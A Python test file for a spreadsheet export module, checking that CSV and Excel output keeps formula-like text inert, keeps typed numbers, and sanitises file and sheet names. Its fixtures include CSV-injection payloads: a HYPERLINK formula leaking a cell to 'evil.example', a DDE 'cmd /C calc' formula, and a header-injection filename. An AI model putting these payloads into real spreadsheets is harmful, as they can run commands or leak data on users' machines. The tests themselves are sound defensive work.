"""The export writers (no Django, no database): every kind of cell written as
CSV and as an Excel workbook and read back as a spreadsheet program would,
with text that starts like a formula kept as text and numbers as numbers."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from goldenthread.domain.values import NOT_APPLICABLE, NOT_AVAILABLE, Unit, Value
from goldenthread.exports.table import Column, Figure, Table, figure_cell, file_stem
from goldenthread.exports.writers import csv_bytes, sheet_name, xlsx_bytes

COLUMNS = [Column("What"), Column("Cell")]
ROWS = [
    ("formula", "=1+1"),
    ("at", "@SUM(A1:A9)"),
    ("plus", "+44"),
    ("minus text", "-3"),
    ("tab", "\tcmd"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("plain", "Payroll"),
    ("negative number", Figure(Decimal("-3"), 0)),
    ("percentage", Figure(Decimal("97.5"), 2, Unit.PERCENT)),
    ("money", Figure(Decimal("8861.4"), 2, Unit.MONEY)),
    ("days", Figure(Decimal("22.25"), 1, Unit.DAYS)),
    ("duration", Figure(Decimal("447"), 0, Unit.DURATION)),
    ("long duration", Figure(Decimal("4500"), 0, Unit.DURATION)),
    ("as stored", Figure(Decimal("1.125"))),
    ("count", 12),
    ("date", datetime.date(2019, 7, 31)),
    ("date and time", datetime.datetime(2019, 7, 31, 14, 5)),
    ("empty", None),
]
TABLE = Table("Figures, 2019/20 Q1: [all]", "figures-2019-20-q1", COLUMNS, ROWS)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_has_a_byte_order_mark_and_the_headings():
    content = csv_bytes(TABLE)
    assert content.startswith("\ufeff".encode())
    assert read_csv(content)[0] == ["What", "Cell"]


def test_csv_cells_are_written_as_excel_reads_them_back_as_their_type():
    cells = dict(read_csv(csv_bytes(TABLE))[1:])
    assert cells == {
        "formula": "'=1+1",
        "at": "'@SUM(A1:A9)",
        "plus": "+44",  # a plain number is not a formula (domain.spreadsheet_text)
        "minus text": "-3",
        "tab": "'\tcmd",
        "hyperlink": '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "plain": "Payroll",
        "negative number": "-3",
        "percentage": "97.50%",
        "money": "8861.40",
        "days": "22.3",  # rounded half up to its places, as the page shows it
        "duration": "0:07:27",
        "long duration": "1:15:00",
        "as stored": "1.125",
        "count": "12",
        "date": "2019-07-31",
        "date and time": "2019-07-31 14:05",
        "empty": "",
    }


def test_xlsx_cells_are_typed_and_text_that_starts_like_a_formula_stays_text():
    book = load_workbook(io.BytesIO(xlsx_bytes(TABLE)))
    sheet = book.active
    assert sheet.title == "Figures, 2019-20 Q1- -all-"
    assert book.properties.title == "Figures, 2019/20 Q1: [all]"
    assert [c.value for c in sheet[1]] == ["What", "Cell"]
    assert sheet.freeze_panes == "A2"
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for name in ("formula", "at", "plus", "minus text", "tab", "hyperlink"):
        cell = cells[name]
        assert cell.data_type == "s", name  # a string, never a formula
        assert cell.quotePrefix, f"{name} would run as a formula after an edit"
    assert cells["formula"].value == "=1+1"
    assert cells["minus text"].value == "-3"
    assert cells["plain"].data_type == "s" and not cells["plain"].quotePrefix
    assert cells["negative number"].value == -3
    assert cells["negative number"].data_type == "n"
    assert cells["percentage"].value == pytest.approx(0.975)
    assert cells["percentage"].number_format == "0.00%"
    assert cells["money"].value == pytest.approx(8861.4)
    assert cells["money"].number_format == '"£"#,##0.00'
    assert cells["days"].value == pytest.approx(22.3)
    assert cells["days"].number_format == "#,##0.0"
    assert cells["duration"].value == datetime.timedelta(seconds=447)  # a time, as Excel has it
    assert cells["duration"].number_format == "[m]:ss"
    assert cells["long duration"].number_format == "[h]:mm:ss"
    assert cells["as stored"].number_format == "#,##0.000"
    assert cells["count"].value == 12 and cells["count"].data_type == "n"
    assert cells["date"].value == datetime.datetime(2019, 7, 31)
    assert cells["date"].is_date and cells["date"].number_format == "d mmm yyyy"
    assert cells["date and time"].value == datetime.datetime(2019, 7, 31, 14, 5)
    assert cells["empty"].value is None


def test_an_empty_table_is_still_a_table_with_its_headings():
    empty = Table("Nothing", "nothing", COLUMNS, [])
    assert read_csv(csv_bytes(empty)) == [["What", "Cell"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(empty))).active
    assert [c.value for c in sheet[1]] == ["What", "Cell"] and sheet.max_row == 1


def test_a_heading_that_starts_like_a_formula_stays_text():
    table = Table("T", "t", [Column("=cmd|' /C calc'!A0")], [("x",)])
    assert read_csv(csv_bytes(table))[0] == ["'=cmd|' /C calc'!A0"]
    cell = load_workbook(io.BytesIO(xlsx_bytes(table))).active["A1"]
    assert cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (NOT_APPLICABLE, "n/a"),
        (NOT_AVAILABLE, "Not yet available"),
        (Value.of("97.50", Unit.PERCENT), Figure(Decimal("97.50"), 2, Unit.PERCENT)),
        (Value.of("22"), Figure(Decimal("22"), 0, Unit.DAYS)),  # the indicator's unit
    ],
)
def test_a_figure_cell_is_what_the_page_shows(value, expected):
    assert figure_cell(value, "days") == expected


@pytest.mark.parametrize(
    ("parts", "stem"),
    [
        (("overview", "2019/20 Q1", "LBH"), "overview-2019-20-q1-lbh"),
        (("progress", "2019/20 Q1", ""), "progress-2019-20-q1"),
        (('a"b;\r\nfilename=evil.exe', "ü"), "a-b-filename-evil-exe"),
        (("", "///"), "table"),
        (("x" * 500,), "x" * 120),
    ],
)
def test_a_file_name_is_letters_digits_and_hyphens(parts, stem):
    assert file_stem(*parts) == stem


def test_a_sheet_name_is_one_excel_accepts():
    assert sheet_name("a/b\\c?d*e[f]g:h'i") == "a-b-c-d-e-f-g-h-i"
    assert len(sheet_name("x" * 100)) == 31
    assert sheet_name("") == "Table"
